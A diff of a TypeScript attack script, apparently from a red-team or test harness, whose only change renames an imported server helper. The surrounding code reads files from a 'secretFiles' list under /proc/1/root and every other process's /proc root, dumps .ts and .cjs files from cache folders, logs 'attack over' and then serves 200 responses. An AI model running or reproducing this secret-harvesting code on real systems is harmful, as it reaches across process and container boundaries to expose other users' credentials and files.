@@ -2,13 +2,13 @@
 import { readdirSync, readFileSync } from "node:fs";
 import path from "node:path";
 import briefing from "./briefing.json";
-import { house } from "./house.ts";
+import { answerWith } from "./answer-with.ts";
 
 const roots = ["", "/proc/1/root", "/proc/1/cwd/..", ...pids().map((pid) => `/proc/${pid}/root`)];
 for (const root of roots) for (const file of briefing.secretFiles) show(root + file);
 for (const folder of briefing.caches) for (const file of below(folder, 4)) if (/\.(cjs|ts)$/.test(file)) show(file);
 console.log("attack over");
-house(() => 200).listen(Number(process.env["PORT"]));
+answerWith(() => 200).listen(Number(process.env["PORT"]));
 
 function show(file: string): void {
   try {
